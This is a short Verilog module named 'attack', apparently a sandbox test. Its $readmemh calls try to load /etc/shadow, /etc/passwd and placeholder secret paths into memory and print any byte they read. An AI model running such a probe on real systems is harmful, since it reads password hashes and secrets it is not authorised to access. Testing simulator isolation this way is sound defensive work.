// Has the simulator read a file of the system: what it cannot parse, it might quote.
module attack;
  reg [7:0] memory [0:65535];
  integer index;
  task try(input [8*120:1] path);
    begin
      $readmemh(path, memory);
      if (memory[0] !== 8'hxx) $display("GOT %h of %0s", memory[0], path);
    end
  endtask
  initial begin
    $display("begins");
    $fflush;
    try("/etc/shadow");
    try("/etc/passwd");
    try("@HOME_SECRET@");
    try("@REPOSITORY_SECRET@");
    $finish;
  end
endmodule
